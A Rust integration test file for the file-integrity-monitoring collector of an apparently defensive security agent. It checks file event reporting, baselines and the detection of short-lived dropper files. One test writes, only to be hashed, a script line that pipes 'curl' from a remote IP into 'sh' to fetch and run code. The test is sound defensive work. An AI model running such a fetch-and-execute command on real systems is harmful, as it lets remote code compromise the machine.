//! The FIM collector against files this test writes in a watched temporary directory.

#![cfg(target_os = "linux")]

mod common;

use std::fs;
use std::io::Write;
use std::path::Path;
use std::time::Duration;

use common::{Harness, all_off, sha256_hex, str_at};
use dozor_collect::CollectorState;
use serde_json::Value;

fn action(v: &Value) -> &str {
    str_at(v, "/event/action").unwrap_or("")
}

fn is(v: &Value, act: &str, path: &Path) -> bool {
    action(v) == act && str_at(v, "/file/path") == path.to_str()
}

fn config(watched: &Path) -> dozor_collect::CollectConfig {
    let mut c = all_off();
    c.fim.enabled = Some(true);
    c.fim.paths = vec![watched.to_path_buf()];
    c
}

#[test]
fn create_modify_rename_delete_and_restart() {
    let state = tempfile::tempdir().expect("state");
    let watched = tempfile::tempdir().expect("watched");
    let w = watched.path();
    let pre = w.join("pre-existing.conf");
    fs::write(&pre, b"old\n").expect("write");
    let cfg = config(w);
    let h = Harness::start(&cfg, state.path());
    let status = h.wait_ready("fim");
    assert_eq!(status.state, CollectorState::Running, "{status:?}");

    // Create: exactly one event with the right hash and metadata.
    let a = w.join("a.txt");
    fs::write(&a, b"hello\n").expect("write");
    let created = h.wait_for("created", 20, |v| is(v, "created", &a));
    assert_eq!(
        str_at(&created, "/file/hash/sha256"),
        Some(sha256_hex(b"hello\n").as_str())
    );
    assert_eq!(created["file"]["size"], 6);
    assert_eq!(created["file"]["name"], "a.txt");
    assert_eq!(created["file"]["extension"], "txt");
    assert_eq!(str_at(&created, "/file/directory"), w.to_str());
    assert_eq!(created["file"]["type"], "file");
    assert!(created["file"]["mode"].is_string() && created["file"]["mtime"].is_string());
    assert_eq!(created["event"]["type"], serde_json::json!(["creation"]));
    assert_eq!(created["event"]["category"], serde_json::json!(["file"]));

    // A burst of writes: one modification with the old and the new hash.
    {
        let mut f = fs::OpenOptions::new().append(true).open(&a).expect("open");
        for i in 0..20 {
            writeln!(f, "line {i}").expect("append");
            f.flush().expect("flush");
        }
    }
    let final_content = fs::read(&a).expect("read");
    let modified = h.wait_for("modified", 20, |v| is(v, "modified", &a));
    assert_eq!(
        str_at(&modified, "/file/hash/sha256"),
        Some(sha256_hex(&final_content).as_str())
    );
    assert_eq!(
        str_at(&modified, "/dozor/file/previous_hash/sha256"),
        Some(sha256_hex(b"hello\n").as_str())
    );
    assert_eq!(modified["event"]["type"], serde_json::json!(["change"]));

    // Attribute change.
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&a, fs::Permissions::from_mode(0o600)).expect("chmod");
    let attrs = h.wait_for("attributes", 20, |v| is(v, "attributes_modified", &a));
    assert_eq!(attrs["file"]["mode"], "0600");

    // Rename.
    let b = w.join("b.txt");
    fs::rename(&a, &b).expect("rename");
    let renamed = h.wait_for("renamed", 20, |v| is(v, "renamed", &b));
    assert_eq!(str_at(&renamed, "/dozor/file/previous_path"), a.to_str());
    assert_eq!(
        str_at(&renamed, "/file/hash/sha256"),
        Some(sha256_hex(&final_content).as_str())
    );

    // An editor-style save: write a temporary file and rename it over the target.
    let tmp = w.join(".b.txt.tmp");
    fs::write(&tmp, b"saved by editor\n").expect("write tmp");
    fs::rename(&tmp, &b).expect("rename over");
    let saved = h.wait_for("modified by rename", 20, |v| is(v, "modified", &b));
    assert_eq!(
        str_at(&saved, "/dozor/file/previous_hash/sha256"),
        Some(sha256_hex(&final_content).as_str())
    );
    assert_eq!(
        str_at(&saved, "/file/hash/sha256"),
        Some(sha256_hex(b"saved by editor\n").as_str())
    );

    // Delete.
    fs::remove_file(&b).expect("remove");
    let deleted = h.wait_for("deleted", 20, |v| is(v, "deleted", &b));
    assert_eq!(deleted["event"]["type"], serde_json::json!(["deletion"]));
    assert_eq!(
        str_at(&deleted, "/file/hash/sha256"),
        Some(sha256_hex(b"saved by editor\n").as_str())
    );

    // A subdirectory and a file in it; a transient file.
    let sub = w.join("sub");
    fs::create_dir(&sub).expect("mkdir");
    let c = sub.join("c.sh");
    fs::write(&c, b"#!/bin/sh\n").expect("write");
    h.wait_for("created in subdir", 20, |v| is(v, "created", &c));
    let transient = w.join("transient");
    fs::write(&transient, b"x").expect("write");
    fs::remove_file(&transient).expect("remove");
    // Excluded by the default globs.
    fs::write(w.join("x.swp"), b"swap").expect("write");
    h.drain_for(Duration::from_millis(1000));

    let events = h.stop();
    let count = |act: &str, p: &Path| events.iter().filter(|v| is(v, act, p)).count();
    assert_eq!(count("created", &a), 1, "one created event");
    assert_eq!(count("modified", &a), 1, "one modified event for the burst");
    assert_eq!(count("renamed", &b), 1);
    assert_eq!(
        events
            .iter()
            .filter(|v| str_at(v, "/file/path")
                .is_some_and(|p| p.ends_with(".swp") || p.ends_with(".tmp")))
            .count(),
        0
    );
    // A file created and deleted within the debounce window: reported as short-lived.
    assert_eq!(count("created", &transient), 1);
    assert_eq!(count("deleted", &transient), 1);
    assert_eq!(
        events
            .iter()
            .filter(|v| str_at(v, "/file/path") == transient.to_str())
            .count(),
        2
    );
    assert_eq!(
        events
            .iter()
            .filter(|v| str_at(v, "/file/path") == pre.to_str())
            .count(),
        0
    );
    assert!(state.path().join("fim-baseline.json").is_file());

    // Restart with the same state: nothing is re-reported.
    let h = Harness::start(&cfg, state.path());
    h.wait_ready("fim");
    h.drain_for(Duration::from_millis(700));
    assert_eq!(h.count(|_| true), 0, "restart re-reported unchanged files");
    // Changes while the agent is down.
    let events = h.stop();
    assert!(events.is_empty());
    fs::write(&pre, b"changed while down\n").expect("write");
    let d = w.join("d.txt");
    fs::write(&d, b"new while down\n").expect("write");
    fs::remove_file(&c).expect("remove");

    // At standard the baseline is updated silently.
    let state_copy = tempfile::tempdir().expect("copy");
    fs::copy(
        state.path().join("fim-baseline.json"),
        state_copy.path().join("fim-baseline.json"),
    )
    .expect("copy baseline");
    let h = Harness::start(&cfg, state_copy.path());
    h.wait_ready("fim");
    h.drain_for(Duration::from_millis(700));
    assert_eq!(
        h.count(|_| true),
        0,
        "standard level reports no initial scan"
    );
    h.stop();

    // At detailed the initial scan reports them.
    let mut detailed = cfg.clone();
    detailed.level = dozor_collect::Level::Detailed;
    let h = Harness::start(&detailed, state.path());
    let m = h.wait_for("modified while down", 20, |v| is(v, "modified", &pre));
    assert_eq!(
        str_at(&m, "/dozor/file/previous_hash/sha256"),
        Some(sha256_hex(b"old\n").as_str())
    );
    h.wait_for("created while down", 20, |v| is(v, "created", &d));
    h.wait_for("deleted while down", 20, |v| is(v, "deleted", &c));
    h.drain_for(Duration::from_millis(500));
    assert_eq!(h.count(|_| true), 3, "only the three changes");
    h.stop();
}

#[test]
fn single_file_watch_survives_atomic_replace() {
    let state = tempfile::tempdir().expect("state");
    let watched = tempfile::tempdir().expect("watched");
    let target = watched.path().join("passwd");
    fs::write(&target, b"root:x:0:0\n").expect("write");
    let other = watched.path().join("other");
    let h = Harness::start(&config(&target), state.path());
    h.wait_ready("fim");
    for round in 0..2 {
        let tmp = watched.path().join(format!("passwd.{round}"));
        let content = format!("root:x:0:0\nuser{round}:x:1000:1000\n");
        fs::write(&tmp, &content).expect("write");
        fs::rename(&tmp, &target).expect("replace");
        let m = h.wait_for("replace", 20, |v| {
            is(v, "modified", &target)
                && str_at(v, "/file/hash/sha256") == Some(sha256_hex(content.as_bytes()).as_str())
        });
        assert!(m["dozor"]["file"]["previous_hash"]["sha256"].is_string());
    }
    fs::write(&other, b"not watched").expect("write");
    h.drain_for(Duration::from_millis(700));
    assert_eq!(h.count(|v| str_at(v, "/file/path") == other.to_str()), 0);
    h.stop();
}

#[test]
fn missing_paths_degrade_health() {
    let state = tempfile::tempdir().expect("state");
    let mut cfg = all_off();
    cfg.fim.enabled = Some(true);
    cfg.fim.paths = vec!["/nonexistent/dozor-test".into()];
    let h = Harness::start(&cfg, state.path());
    let status = h.wait_ready("fim");
    assert_eq!(status.state, CollectorState::Degraded);
    assert_eq!(
        h.health.problems(),
        vec!["fim: none of the 1 configured paths exists".to_owned()]
    );
    h.stop();
}

fn timestamp(v: &Value) -> chrono::DateTime<chrono::Utc> {
    str_at(v, "/@timestamp")
        .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
        .map(|t| t.with_timezone(&chrono::Utc))
        .unwrap_or_else(|| panic!("no @timestamp in {v}"))
}

/// A dropper's footprint: created, written, renamed and deleted within a few milliseconds,
/// long before the 300 ms debounce fires.
#[test]
fn short_lived_file_is_reported() {
    let state = tempfile::tempdir().expect("state");
    let watched = tempfile::tempdir().expect("watched");
    let w = watched.path();
    let h = Harness::start(&config(w), state.path());
    h.wait_ready("fim");

    let dropped = w.join("dropper.tmp");
    let payload = w.join("payload.bin");
    let content = b"\x7fELF short-lived payload";
    let started = std::time::Instant::now();
    {
        let mut f = fs::File::create(&dropped).expect("create");
        f.write_all(content).expect("write");
    }
    fs::rename(&dropped, &payload).expect("rename");
    fs::remove_file(&payload).expect("remove");
    eprintln!("the file lived {:?}", started.elapsed());

    let created = h.wait_for("created", 10, |v| is(v, "created", &dropped));
    assert_eq!(created["event"]["type"], serde_json::json!(["creation"]));
    assert_eq!(created["event"]["category"], serde_json::json!(["file"]));
    assert_eq!(created["dozor"]["file"]["short_lived"], true);
    assert_eq!(created["file"]["name"], "dropper.tmp");
    assert_eq!(created["file"]["extension"], "tmp");
    assert_eq!(str_at(&created, "/file/directory"), w.to_str());
    assert_eq!(created["file"]["type"], "file");

    let renamed = h.wait_for("renamed", 10, |v| is(v, "renamed", &payload));
    assert_eq!(renamed["event"]["type"], serde_json::json!(["change"]));
    assert_eq!(
        str_at(&renamed, "/dozor/file/previous_path"),
        dropped.to_str()
    );
    assert_eq!(renamed["dozor"]["file"]["short_lived"], true);
    assert_eq!(renamed["file"]["name"], "payload.bin");

    let deleted = h.wait_for("deleted", 10, |v| is(v, "deleted", &payload));
    assert_eq!(deleted["event"]["type"], serde_json::json!(["deletion"]));
    assert_eq!(deleted["dozor"]["file"]["short_lived"], true);
    assert_eq!(
        str_at(&deleted, "/dozor/file/original_path"),
        dropped.to_str()
    );
    let duration = deleted["event"]["duration"]
        .as_u64()
        .expect("event.duration");
    let lifetime = deleted["dozor"]["file"]["lifetime_ms"]
        .as_f64()
        .expect("lifetime_ms");
    assert!((0.0..5_000.0).contains(&lifetime), "{lifetime}");
    assert!((duration as f64 / 1e6 - lifetime).abs() < 0.01);
    assert!(deleted["event"]["start"].is_string() && deleted["event"]["end"].is_string());
    assert_eq!(deleted["event"]["start"], created["@timestamp"]);
    assert_eq!(deleted["event"]["end"], deleted["@timestamp"]);
    assert!(timestamp(&created) <= timestamp(&renamed));
    assert!(timestamp(&renamed) <= timestamp(&deleted));
    // The content could only be read if the collector opened the file before it was gone.
    match str_at(&deleted, "/file/hash/sha256") {
        Some(sha) => {
            assert_eq!(sha, sha256_hex(content));
            assert_eq!(deleted["file"]["size"], content.len());
        }
        None => eprintln!("the file was gone before the collector could open it"),
    }

    h.drain_for(Duration::from_millis(700));
    let events = h.stop();
    let on = |p: &Path| {
        events
            .iter()
            .filter(|v| str_at(v, "/file/path") == p.to_str())
            .count()
    };
    assert_eq!(on(&dropped), 1, "only the creation under the first name");
    assert_eq!(on(&payload), 2, "the rename and the deletion");
}

/// The descriptor the collector opens when a file is created outlives the name: the
/// short-lived file is reported with its size, owner and SHA-256.
#[test]
fn short_lived_file_is_hashed_through_the_held_descriptor() {
    let state = tempfile::tempdir().expect("state");
    let watched = tempfile::tempdir().expect("watched");
    let w = watched.path();
    let h = Harness::start(&config(w), state.path());
    h.wait_ready("fim");

    let path = w.join("stage2.sh");
    let content = b"#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n";
    fs::write(&path, content).expect("write");
    // Wait (bounded) until the collector holds the file open: a link in our own fd table.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let held = || {
        fs::read_dir("/proc/self/fd")
            .map(|d| {
                d.flatten()
                    .any(|e| fs::read_link(e.path()).is_ok_and(|t| t == path))
            })
            .unwrap_or(false)
    };
    while !held() {
        assert!(
            std::time::Instant::now() < deadline,
            "the collector never opened the new file"
        );
        std::thread::sleep(Duration::from_millis(5));
    }
    let renamed_to = w.join("stage2.sh.bak");
    fs::rename(&path, &renamed_to).expect("rename");
    fs::remove_file(&renamed_to).expect("remove");

    let sha = sha256_hex(content);
    let created = h.wait_for("created", 10, |v| is(v, "created", &path));
    assert_eq!(str_at(&created, "/file/hash/sha256"), Some(sha.as_str()));
    assert_eq!(created["file"]["size"], content.len());
    assert_eq!(created["file"]["owner"], "root");
    assert!(created["file"]["mode"].is_string() && created["file"]["inode"].is_string());
    assert_eq!(created["related"]["hash"], serde_json::json!([sha]));
    let deleted = h.wait_for("deleted", 10, |v| is(v, "deleted", &renamed_to));
    assert_eq!(str_at(&deleted, "/file/hash/sha256"), Some(sha.as_str()));
    assert_eq!(deleted["file"]["size"], content.len());
    assert_eq!(str_at(&deleted, "/dozor/file/original_path"), path.to_str());
    h.wait_for("renamed", 10, |v| is(v, "renamed", &renamed_to));
    // The descriptor is closed once the file is reported.
    h.drain_for(Duration::from_millis(100));
    assert!(
        !fs::read_dir("/proc/self/fd")
            .expect("fds")
            .flatten()
            .any(|e| fs::read_link(e.path())
                .is_ok_and(|t| t.to_string_lossy().contains("stage2.sh"))),
        "descriptor still open"
    );
    h.stop();
}

/// Moved out of the watched tree (or to an excluded name) before the debounce: created, then
/// deleted with `moved_out` (and the destination when the watcher saw it).
#[test]
fn short_lived_file_moved_away() {
    let state = tempfile::tempdir().expect("state");
    let watched = tempfile::tempdir().expect("watched");
    let elsewhere = tempfile::tempdir().expect("elsewhere");
    let w = watched.path();
    let h = Harness::start(&config(w), state.path());
    h.wait_ready("fim");

    let out = w.join("out.bin");
    fs::write(&out, b"moved out").expect("write");
    fs::rename(&out, elsewhere.path().join("out.bin")).expect("move out");
    let hidden = w.join("hidden.bin");
    let excluded = w.join("hidden.bin.swp");
    fs::write(&hidden, b"hidden").expect("write");
    fs::rename(&hidden, &excluded).expect("rename to an excluded name");

    h.wait_for("created out", 10, |v| is(v, "created", &out));
    let d = h.wait_for("moved out", 10, |v| is(v, "deleted", &out));
    assert_eq!(d["dozor"]["file"]["moved_out"], true);
    assert_eq!(d["dozor"]["file"]["short_lived"], true);
    h.wait_for("created hidden", 10, |v| is(v, "created", &hidden));
    let d = h.wait_for("hidden", 10, |v| is(v, "deleted", &hidden));
    assert_eq!(d["dozor"]["file"]["moved_out"], true);
    assert_eq!(str_at(&d, "/dozor/file/moved_to"), excluded.to_str());
    // A new directory with a file, renamed at once: the file moved, it was not deleted.
    let dir = w.join("newdir");
    fs::create_dir(&dir).expect("mkdir");
    fs::write(dir.join("f.conf"), b"moved with its directory").expect("write");
    let dir2 = w.join("newdir2");
    fs::rename(&dir, &dir2).expect("rename dir");
    h.wait_for("file in the renamed directory", 10, |v| {
        is(v, "created", &dir2.join("f.conf"))
    });
    h.drain_for(Duration::from_millis(500));
    assert_eq!(
        h.count(|v| str_at(v, "/file/path").is_some_and(|p| p.ends_with(".swp"))),
        0
    );
    assert_eq!(
        h.count(|v| str_at(v, "/file/path") == dir.join("f.conf").to_str()),
        0,
        "no short-lived report for a file that moved with its directory"
    );
    h.stop();
}
